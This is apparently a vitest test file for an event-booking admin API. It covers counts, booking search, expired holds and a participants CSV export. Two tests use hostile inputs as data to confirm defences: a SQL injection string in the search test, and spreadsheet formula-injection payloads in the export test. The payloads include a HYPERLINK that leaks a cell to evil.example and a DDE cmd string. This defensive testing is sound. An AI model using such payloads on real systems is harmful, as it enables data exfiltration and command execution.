import { sql } from "kysely";
import { expect, test } from "vitest";
import { newRowId } from "#platform/ids.ts";
import { anEventDraft } from "#tests/builders/event-draft.ts";
import { anOrganizersApi } from "#tests/builders/organizers-api.ts";
import { aVisitor, payAt } from "#tests/builders/visitor.ts";

const opened = await anOrganizersApi();
const { door, organizer } = opened;

type Saved = { id: string; slug: string; categories: { id: string }[]; questions: { id: string }[] };

async function anEventOf(change = {}): Promise<Saved> {
  const saved: Saved = (await organizer.ask("POST", "/api/admin/events", anEventDraft(change))).body;
  await organizer.ask("POST", `/api/admin/events/${saved.slug}/publish`, {});
  return saved;
}

/** The id of the event's n-th category or question. */
const idOf = (parts: { id: string }[], index = 0): string => parts[index]?.id ?? "";

/** Somebody who went through the whole sale and paid. */
async function aConfirmedVisitor({ slug, categories }: Saved, person: object = {}) {
  const visitor = aVisitor(door, { slug, categoryId: idOf(categories) });
  Object.assign(visitor.person, person);
  const orderId = await visitor.toCheckout();
  const paid = await visitor.verify(await payAt(opened.razorpay.url, orderId));
  expect(paid.body.state).toBe("confirmed");
  return visitor;
}

const listed = async (slug: string, query: { search?: string; state?: string } = {}) =>
  (await organizer.ask("POST", `/api/admin/events/${slug}/bookings/search`, query)).body;
const namesOf = (page: { bookings: { name: string }[] }) => page.bookings.map((booking) => booking.name).sort();

/** Rows of a CSV whose cells hold no line break. */
async function exported(slug: string, query = ""): Promise<{ text: string; header: string[]; rows: string[][] }> {
  const reply = await door(`/api/admin/events/${slug}/participants.csv?${query}`, { headers: organizer.headers });
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await reply.arrayBuffer());
  const cellsOf = (line: string) =>
    [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
      ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
    );
  const [header = "", ...lines] = text.slice(1).trimEnd().split("\r\n");
  return { text, header: cellsOf(header), rows: lines.map(cellsOf) };
}

test("the counts say who has a place, what was paid, and what is owed to people", async () => {
  const event = await anEventOf();
  await aConfirmedVisitor(event);
  const holder = aVisitor(door, { slug: event.slug, categoryId: idOf(event.categories, 1) });
  await holder.join();
  await holder.claim();

  const { body } = await organizer.ask("GET", `/api/admin/events/${event.slug}/counts`);
  expect(body).toMatchObject({
    state: "published",
    capacity: 100,
    confirmed: 1,
    held: 1,
    called: 0,
    free: 98,
    waiting: 0,
    revenuePaise: 152_500,
    platformFeePaise: 2500,
    messages: { queued: 2, failed: 0 },
    warnings: [],
    attention: 0,
    categories: [
      { id: idOf(event.categories), name: "100 km", capacity: 80, held: 0, confirmed: 1 },
      { id: idOf(event.categories, 1), name: "50 km", capacity: 40, held: 1, confirmed: 0 },
    ],
  });
  expect(body.confirmedPerMinute).toHaveLength(16);
  expect(body.confirmedPerMinute.reduce((sum: number, { count }: { count: number }) => sum + count, 0)).toBe(1);
});

test("bookings are found by part of a name, number, address or reference", async () => {
  const event = await anEventOf();
  await aConfirmedVisitor(event, { name: "Meera Joshi", phone: "+919812300001", email: "meera_j@club.example" });
  await aConfirmedVisitor(event, { name: "मीरा जोशी", phone: "+919812300002", email: "meeraxj@club.example" });
  const { reference } = (await listed(event.slug, { search: "Meera J" })).bookings[0];

  expect(namesOf(await listed(event.slug))).toEqual(["Meera Joshi", "मीरा जोशी"]);
  expect(namesOf(await listed(event.slug, { search: "joshi" }))).toEqual(["Meera Joshi"]);
  expect(namesOf(await listed(event.slug, { search: "जोशी" }))).toEqual(["मीरा जोशी"]);
  expect(namesOf(await listed(event.slug, { search: "098123-00002" }))).toEqual(["मीरा जोशी"]);
  expect(namesOf(await listed(event.slug, { search: reference.toLowerCase().replace("-", "") }))).toEqual([
    "Meera Joshi",
  ]);
  expect(namesOf(await listed(event.slug, { search: "nobody" }))).toEqual([]);
});

test("what is searched for is text, not a pattern and not SQL", async () => {
  const event = await anEventOf();
  await aConfirmedVisitor(event, { name: "Meera Joshi", email: "meera_j@club.example" });
  await aConfirmedVisitor(event, { name: "Meera Jog", email: "meeraxj@club.example" });

  expect(namesOf(await listed(event.slug, { search: "meera_j@club" }))).toEqual(["Meera Joshi"]);
  for (const search of ["%", "_", "%' OR '1'='1", "\\"]) {
    expect({ search, names: namesOf(await listed(event.slug, { search: search })) }).toEqual({
      search,
      names: search === "_" ? ["Meera Joshi"] : [],
    });
  }
});

test("a place that nobody keeps any more is listed as expired before any job wrote it down", async () => {
  const event = await anEventOf();
  const visitor = aVisitor(door, { slug: event.slug, categoryId: idOf(event.categories) });
  await visitor.join();
  await visitor.claim();
  await sql`UPDATE bookings SET kept_until = now() - interval '1 second' WHERE event_id = ${event.id}`.execute(
    opened.startline.db,
  );

  expect((await listed(event.slug, { state: "expired" })).total).toBe(1);
  expect((await listed(event.slug, { state: "held" })).total).toBe(0);
});

test("the export is UTF-8 with a byte order mark, and has all that the organizer needs of each participant", async () => {
  const event = await anEventOf({
    questions: [{ id: "", label: "Jersey size", options: ["S", "M"], isRequired: false }],
  });
  await aConfirmedVisitor(event, {
    name: "मीरा जोशी",
    phone: "+919812300003",
    email: "m@club.example",
    answers: { [idOf(event.questions)]: "M" },
  });

  const { text, header, rows } = await exported(event.slug);
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const row = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
  expect(row).toMatchObject({
    state: "confirmed",
    category: "100 km",
    name: "मीरा जोशी",
    phone: "91 98123 00003",
    email: "m@club.example",
    language: "en",
    amount_rupees: "1525",
    platform_fee_rupees: "25",
    waiver_version: "1",
    queue_number: "1",
    "Jersey size": "M",
    other_answers: "",
  });
  expect(row.reference).toMatch(/^\w{4}-\w{4}$/);
  expect(row.payment_id).toMatch(/^pay_/);
  expect(row.confirmed_at_ist).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
});

test("no cell of the export can be run as a formula", async () => {
  const event = await anEventOf({ questions: [{ id: "", label: "=Note", isRequired: false }] });
  await aConfirmedVisitor(event, {
    name: '=HYPERLINK("http://evil.example?"&A1,"Asha")',
    answers: { [idOf(event.questions)]: "@SUM(1+1)*cmd|' /C calc'!A0" },
  });
  await aConfirmedVisitor(event, { name: "-2+3 Asha", answers: { [idOf(event.questions)]: "+1" } });

  const { header, rows } = await exported(event.slug);
  const cells = [...header, ...rows.flat()];
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells).toContain(`'=HYPERLINK("http://evil.example?"&A1,"Asha")`);
});

test("the export has every row exactly once, however many reads it takes", async () => {
  const event = await anEventOf({
    capacity: 5000,
    categories: [{ id: null, name: "100 km", capacity: 5000, ticketPricePaise: 1000 }],
  });
  const wanted = 1203;
  const ids = Array.from({ length: wanted }, () => newRowId("bkg", event.id));
  // Many share a microsecond, so that only the id tells them apart.
  await sql`INSERT INTO bookings (event_id, id, category_id, reference, state, ticket_id, amount_paise, platform_fee_paise,
      hold_expires_at, kept_until, created_at, confirmed_at)
    SELECT ${event.id}, b, ${idOf(event.categories)}, b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
      timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond',
      CASE WHEN n % 3 = 0 THEN NULL ELSE timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond' END
    FROM unnest(${ids}::text[]) WITH ORDINALITY AS u (b, n)`.execute(opened.startline.db);

  const all = await exported(event.slug, "all=1");
  expect(new Set(all.rows.map((row) => row[0])).size).toBe(wanted);
  expect(all.rows).toHaveLength(wanted);
  const confirmed = await exported(event.slug);
  expect(confirmed.rows).toHaveLength(802);
  expect(new Set(confirmed.rows.map((row) => row[1]))).toEqual(new Set(["confirmed"]));
});
